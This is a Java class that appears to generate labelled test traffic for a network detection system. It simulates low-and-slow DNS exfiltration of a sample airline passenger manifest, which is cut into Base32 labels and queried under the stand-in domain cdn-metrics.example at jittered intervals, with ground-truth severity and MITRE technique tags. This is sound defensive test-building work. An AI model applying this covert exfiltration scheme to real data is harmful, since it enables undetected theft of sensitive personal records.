package io.telltale.testdata.scenario.attack;

import io.telltale.testdata.payload.Dns;
import io.telltale.testdata.scenario.BaseScenario;
import io.telltale.testdata.scenario.Device;
import io.telltale.testdata.scenario.Label;
import io.telltale.testdata.scenario.Plan;
import io.telltale.testdata.scenario.Severity;
import io.telltale.testdata.scenario.Truth;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * A3: passenger data leaves the CT in DNS questions, low and slow: a PAXLST message cut into 32-byte
 * pieces, each Base32-encoded into a 52-character label, asked as
 * {@code <label>.<sequence>.cdn-metrics.example} (type A) every 30–90 s for the whole period; every
 * answer is NXDOMAIN.
 */
public final class SlowDnsExfiltration extends BaseScenario {

    static final String DOMAIN = "cdn-metrics.example";
    static final String PAXLST = "UNA:+.? 'UNB+UNOA:4+AIRLINE1:ZZ+USCSAPIS:ZZ+260302:0812+000000042'UNH+PAX001+PAXLST:D:02B:UN:IATA'"
            + "BGM+745'NAD+MS+++DOE JANE'COM+703 555 1212:TE'TDT+20+XX123+++XX'LOC+125+LHR'DTM+189:2603021015:201'"
            + "LOC+87+JFK'DTM+232:2603021320:201'NAD+FL+++DOE:JANE+1 MAIN ST+NEW YORK+NY+10001+USA'ATT+2++F'"
            + "DTM+329:800101'NAT+2+USA'DOC+P:110:111+L898902C3'DTM+36:300101'LOC+91+USA'CNT+42:1'UNT+17+PAX001'";

    public SlowDnsExfiltration() {
        super("A3", Label.MALICIOUS, "low-and-slow DNS exfiltration of a PAXLST in Base32 labels, a query every 30-90 s");
    }

    @Override
    public void plan(Plan plan) {
        Device ct = plan.site().device("CT-L1");
        Device resolver = plan.site().device("RESOLVER");
        byte[] data = PAXLST.getBytes(StandardCharsets.US_ASCII);
        long start = plan.start() + 17 * MINUTE;
        int sequence = 0;
        long t = start;
        while (t < plan.end()) {
            int piece = sequence % ((data.length + 31) / 32);
            byte[] chunk = java.util.Arrays.copyOfRange(data, piece * 32, Math.min(data.length, piece * 32 + 32));
            String name = base32(java.util.Arrays.copyOf(chunk, 32)) + "." + sequence + "." + DOMAIN;
            plan.at(t, talk -> talk.lookup(ct, talk.start(), name, Dns.A, Dns.NXDOMAIN, List.of()));
            sequence++;
            t += (30 + plan.random().nextInt(61)) * SECOND;
        }
        truth(plan, ct, new Truth.Remote(resolver.ip(), DOMAIN, "udp", 53), List.of("dns-exfiltration", "cleartext-sensitive-data"),
                Severity.HIGH, List.of("T1048.003", "T1071.004"), start, plan.end(),
                new Truth.Expect(Truth.Expect.REQUESTS, sequence, sequence, sequence * 80L, sequence * 110L, sequence * 80L, sequence * 110L, 60, 0.5),
                List.of());
    }

    /** RFC 4648 Base32, lower case, no padding: 32 bytes make 52 characters. */
    static String base32(byte[] data) {
        String alphabet = "abcdefghijklmnopqrstuvwxyz234567";
        StringBuilder out = new StringBuilder();
        int buffer = 0;
        int bits = 0;
        for (byte b : data) {
            buffer = (buffer << 8) | (b & 0xff);
            bits += 8;
            while (bits >= 5) {
                out.append(alphabet.charAt((buffer >> (bits - 5)) & 31));
                bits -= 5;
            }
        }
        if (bits > 0) {
            out.append(alphabet.charAt((buffer << (5 - bits)) & 31));
        }
        return out.toString();
    }
}
